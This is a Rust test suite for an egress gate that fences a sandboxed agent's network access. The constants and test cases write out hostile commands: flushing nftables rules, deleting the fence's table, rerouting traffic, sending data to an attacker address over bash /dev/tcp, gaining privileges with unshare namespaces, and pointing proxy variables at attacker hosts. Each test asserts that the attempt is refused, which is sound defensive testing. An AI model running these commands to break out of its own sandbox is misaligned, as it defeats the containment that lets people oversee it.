//! What an agent can do to itself: its rights, its users, its namespaces, its variables. None of it opens anything.

use crate::{
    agent::dial,
    internet::{ATTACKER, output},
    world::World,
};
use hydra_core::egress::{DenyReason, gate::GateLine};
use std::{
    net::Ipv4Addr,
    process::{Command, Output},
};

/// What undoes a fence, were it allowed.
const UNDO: &str = "nft flush ruleset; nft delete table inet hydra; nft add table inet mine; ip route add 203.0.113.0/24 dev lo; \
                    ip -6 route add 2001:db8::/32 dev lo; ip route flush table local; ip link add more type dummy; ip addr add 10.9.9.9/24 dev lo";
/// A packet.
const SEND: &str = "timeout 2 bash -c \"echo x > /dev/tcp/11.0.0.66/80\"";

/// A script as somebody with the rights of an agent: no capability, none to be had, and no new privileges.
fn as_user(uid: u32, script: &str) -> Output {
    let mut command = Command::new("setpriv");
    command.args([&format!("--reuid={uid}"), &format!("--regid={uid}"), "--clear-groups", "--inh-caps=-all"]);
    command.args(["--bounding-set=-all", "--no-new-privs", "bash", "-c", script]).output().unwrap()
}

/// Rules, routes and links.
fn state(pid: u32) -> String {
    let lines = ["nft --stateless list ruleset", "ip route show table all", "ip -6 route show table all", "ip addr"];
    lines.map(|line| output(pid, line)).concat()
}

#[test]
#[ignore = "needs namespaces"]
fn row_01_rules_routes_and_links_cannot_be_changed() {
    for uid in [0, 1000] {
        let world = World::new();
        // Unfenced: whoever may do so throws a rule away, and is through.
        let open = world.internet.open();
        crate::world::run(open, "nft add table inet hydra");
        let drop_all = "add chain inet hydra output { type filter hook output priority 0 ; policy drop ; }";
        crate::world::run(open, &format!("nft {drop_all}"));
        let before = (state(open), world.internet.packets("open"));
        crate::world::inside(open, "bash", &["-c", SEND]).output().unwrap();
        assert_eq!(world.internet.packets("open"), before.1, "the rule holds as long as it stands");
        crate::world::inside(open, "bash", &["-c", "nft flush ruleset"]).output().unwrap();
        assert_ne!(state(open), before.0);
        // Fenced.
        let agent = world.holder.id();
        let before = state(agent);
        let tried = world.attack(move || as_user(uid, &format!("{UNDO}; {SEND}")));
        let said = String::from_utf8_lossy(&tried.stderr).into_owned();
        assert!(said.matches("not permitted").count() >= 6, "{uid}: {said}");
        assert_eq!(state(agent), before, "uid {uid}");
        let denial = world.one_refusal();
        assert_eq!((denial.reason, denial.uid), (DenyReason::PacketTcp, Some(uid)));
        world.internet.saw_nothing();
    }
}

#[test]
#[ignore = "needs namespaces"]
fn row_03_a_new_user_namespace_has_no_way_out() {
    let world = World::new();
    let agent = world.holder.id();
    let before = state(agent);
    // What is gained is NET_ADMIN: rules may be set, of a namespace with no wire.
    let gained = world.agent(|| as_user(1000, "unshare -Urn nft add table inet mine && echo gained"));
    assert_eq!(String::from_utf8_lossy(&gained.stdout).trim(), "gained", "{}", String::from_utf8_lossy(&gained.stderr));
    let alone = format!(
        "unshare -Urn bash -c 'ip link set lo up; ip route add default dev lo; nft flush ruleset; {SEND}; echo x > /dev/udp/11.0.0.66/9'"
    );
    world.agent(move || as_user(1000, &alone));
    let told = world.lines().iter().any(|line| matches!(line, GateLine::Denied(_)));
    assert!(!told, "something came as far as the fence: {:#?}", world.lines());
    // With the fence's own namespace kept, its powers are none over it.
    world.attack(|| as_user(1000, &format!("unshare -Ur bash -c '{UNDO}; {SEND}'")));
    assert_eq!(state(agent), before);
    let denial = world.one_refusal();
    assert_eq!((denial.reason, denial.dst, denial.uid), (DenyReason::PacketTcp, Some(ATTACKER.into()), Some(1000)));
    world.internet.saw_nothing();
}

#[test]
#[ignore = "needs namespaces"]
fn row_30_no_user_is_exempt_and_the_gates_own_is_none() {
    // The gate's, the agent's, the one of images that have no other, and one that nobody has.
    for uid in [65_534, 1_000, 0, 4_242] {
        let world = World::new();
        let tried = world.attack(move || as_user(uid, &format!("id -u; {SEND}")));
        assert_eq!(String::from_utf8_lossy(&tried.stdout).trim(), uid.to_string());
        let denial = world.one_refusal();
        let seen = (denial.reason, denial.dst, denial.dport, denial.uid);
        assert_eq!(seen, (DenyReason::PacketTcp, Some(ATTACKER.into()), Some(80), Some(uid)));
        world.internet.saw_nothing();
    }
}

/// Names and values.
type Variables = &'static [(&'static str, &'static str)];

/// A program that believes in its variables: one request, and what came of it.
fn fetch(url: &str, variables: &[(&str, &str)]) -> String {
    let script = "import ssl, sys, urllib.request
open = urllib.request.build_opener(urllib.request.HTTPSHandler(context=ssl._create_unverified_context()), urllib.request.ProxyHandler())
try: open.open(sys.argv[1], timeout=3).read()
except Exception as error: print(type(error).__name__, error)";
    let mut command = Command::new("python3");
    for name in ["http_proxy", "https_proxy", "all_proxy", "no_proxy"] {
        command.env_remove(name).env_remove(name.to_uppercase());
    }
    let output = command.args(["-c", script, url]).envs(variables.iter().copied()).output().unwrap();
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

#[test]
#[ignore = "needs namespaces"]
fn row_31_proxy_variables_make_no_difference() {
    // Unset, set to the attacker's proxy, set to one that the gate's own port stands for, and told to be passed by.
    let cases: [(&str, Variables, DenyReason, u16); 4] = [
        ("http://11.0.0.66/", &[], DenyReason::PacketTcp, 80),
        ("http://11.0.0.66/", &[("http_proxy", "http://11.0.0.66:3128")], DenyReason::PacketTcp, 3128),
        ("http://evil.test/", &[("http_proxy", "http://11.0.0.66:443")], DenyReason::ConnectMethod, 443),
        ("http://11.0.0.66/", &[("http_proxy", "http://11.0.0.66:443"), ("no_proxy", "*")], DenyReason::PacketTcp, 80),
    ];
    for (url, variables, reason, port) in cases {
        let world = World::new();
        let said = world.attack(move || fetch(url, variables));
        assert!(said.contains("Error"), "{url} {variables:?}: {said}");
        let denial = world.one_refusal();
        assert_eq!((denial.reason, denial.dport), (reason, Some(port)), "{url} {variables:?}: {said}");
        world.internet.saw_nothing();
    }
    // What may be reached is reached either way: by an address of the gate's own making, and by a proxy, which is the gate.
    let world = World::new();
    let api = Ipv4Addr::new(11, 0, 0, 10);
    for variables in [&[][..], &[("https_proxy", "http://192.0.2.7:443")]] {
        world.internet.forget();
        world.agent(move || fetch("https://api.example.org/", variables));
        assert_eq!(world.internet.calls(), [(api.into(), "api.example.org".to_owned())], "{variables:?}");
    }
    assert!(world.agent(|| dial((ATTACKER, 80)).map(drop)).is_err());
}
